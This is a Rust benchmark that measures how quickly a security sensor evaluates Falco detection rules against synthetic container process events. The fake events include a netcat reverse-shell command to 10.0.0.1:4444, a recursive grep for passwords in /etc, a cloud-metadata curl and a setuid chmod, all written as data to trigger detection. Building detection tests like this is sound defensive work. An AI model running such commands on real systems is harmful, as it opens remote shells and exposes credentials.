//! Evaluation cost per event: Falco's three rule files plus the sensor's extra rules,
//! against a realistic mix of the events the sensor captures.

use std::hint::black_box;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use sensor_rules::{MapEvent, MatchMode, RuleSource, Ruleset, RulesetBuilder};

const CONFORMANCE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../conformance/falco-rules");

fn ruleset() -> Ruleset {
    let mut builder = RulesetBuilder::new();
    for file in [
        "falco_rules.yaml",
        "falco-incubating_rules.yaml",
        "falco-sandbox_rules.yaml",
    ] {
        let path = std::path::Path::new(CONFORMANCE).join(file);
        builder
            .add_path(&path)
            .expect("conformance rules are readable");
    }
    builder.add_source(RuleSource::new(
        "sensor_extra_rules.yaml",
        include_str!("rules/sensor_extra_rules.yaml"),
    ));
    let compiled = builder.build();
    assert!(!compiled.report.has_errors(), "{}", compiled.report);
    compiled.ruleset
}

fn process(event: MapEvent, name: &str, exepath: &str, cmdline: &str, parent: &str) -> MapEvent {
    let args = cmdline
        .split_once(' ')
        .map_or("", |(_, args)| args)
        .to_string();
    event
        .with("proc.name", name)
        .with("proc.exe", exepath)
        .with("proc.exepath", exepath)
        .with("proc.cmdline", cmdline)
        .with("proc.args", args)
        .with("proc.pid", 4242i64)
        .with("proc.ppid", 4200i64)
        .with("proc.vpid", 17i64)
        .with("proc.pname", parent)
        .with("proc.pexepath", format!("/usr/bin/{parent}"))
        .with("proc.pcmdline", format!("{parent} -c run"))
        .with("proc.aname[1]", parent)
        .with("proc.aname[2]", "containerd-shim")
        .with("proc.aname[3]", "containerd")
        .with("proc.aname[4]", "systemd")
        .with(
            "proc.aname",
            vec![parent, "containerd-shim", "containerd", "systemd"],
        )
        .with("proc.cwd", "/app")
        .with("proc.tty", 0u32)
        .with("proc.sid", 4200i64)
        .with("user.uid", 1000u32)
        .with("user.name", "app")
        .with("user.loginuid", -1i64)
        .with("user.loginname", "")
        .with("group.gid", 1000u32)
        .with("container.id", "3ad7b26ded6d")
        .with("container.name", "web-7d9f")
        .with("container.image", "registry.example.com/team/web:1.4.2")
        .with(
            "container.image.repository",
            "registry.example.com/team/web",
        )
        .with("container.image.tag", "1.4.2")
        .with("k8s.pod.name", "web-7d9f-abcde")
        .with("k8s.ns.name", "prod")
        .with("evt.rawres", 0i64)
        .with("evt.rawtime", 1_700_000_000_123_456_789u64)
        .with("evt.num", 1234u64)
}

fn events() -> Vec<MapEvent> {
    let execve = |name: &str, exe: &str, cmdline: &str, parent: &str| {
        process(MapEvent::new("execve"), name, exe, cmdline, parent)
            .with("evt.arg.flags", "EXE_WRITABLE")
    };
    vec![
        execve("ls", "/bin/ls", "ls -la /app", "bash"),
        execve(
            "python3",
            "/usr/bin/python3",
            "python3 server.py --port 8080",
            "tini",
        ),
        execve(
            "curl",
            "/usr/bin/curl",
            "curl -s http://metadata/latest",
            "sh",
        ),
        execve("grep", "/bin/grep", "grep -r password /etc", "bash"),
        execve("bash", "/bin/bash", "bash -c echo hi", "nginx"),
        execve("nc", "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444", "bash"),
        process(
            MapEvent::new("chmod"),
            "chmod",
            "/bin/chmod",
            "chmod 4755 /tmp/x",
            "bash",
        )
        .with("evt.arg.filename", "/tmp/x")
        .with(
            "evt.arg.mode",
            "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
        ),
        process(
            MapEvent::new("fchmodat"),
            "chmod",
            "/bin/chmod",
            "chmod 0644 /app/config",
            "bash",
        )
        .with("evt.arg.filename", "/app/config")
        .with("evt.arg.mode", "S_IROTH|S_IRGRP|S_IWUSR|S_IRUSR"),
        process(
            MapEvent::new("mount"),
            "mount",
            "/bin/mount",
            "mount -t tmpfs none /mnt",
            "bash",
        )
        .with("evt.arg.dev", "none")
        .with("evt.arg.dir", "/mnt")
        .with("evt.arg.type", "tmpfs"),
        process(
            MapEvent::new("setuid"),
            "sudo",
            "/usr/bin/sudo",
            "sudo id",
            "bash",
        )
        .with("evt.arg.uid", "root"),
        process(
            MapEvent::new("setresuid"),
            "app",
            "/app/bin/app",
            "app --drop",
            "tini",
        )
        .with("evt.arg.ruid", "1000")
        .with("evt.arg.euid", "1000")
        .with("evt.arg.suid", "1000"),
        process(
            MapEvent::new("clone"),
            "python3",
            "/usr/bin/python3",
            "python3 server.py",
            "tini",
        ),
        process(MapEvent::new("clone"), "bash", "/bin/bash", "bash", "sshd"),
        process(MapEvent::new("procexit"), "ls", "/bin/ls", "ls -la", "bash"),
        process(
            MapEvent::new("capset"),
            "runc",
            "/usr/bin/runc",
            "runc init",
            "containerd-shim",
        ),
        execve("java", "/usr/bin/java", "java -jar app.jar", "tini"),
    ]
}

fn bench(c: &mut Criterion) {
    let ruleset = ruleset();
    let events = events();
    let mut group = c.benchmark_group("evaluate");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.bench_function("mixed_events_first_match", |b| {
        b.iter(|| {
            let mut matched = 0usize;
            for event in &events {
                matched += ruleset.evaluate(black_box(event), MatchMode::First).len();
            }
            matched
        })
    });
    group.bench_function("mixed_events_all_matches", |b| {
        b.iter(|| {
            let mut matched = 0usize;
            for event in &events {
                matched += ruleset.evaluate(black_box(event), MatchMode::All).len();
            }
            matched
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
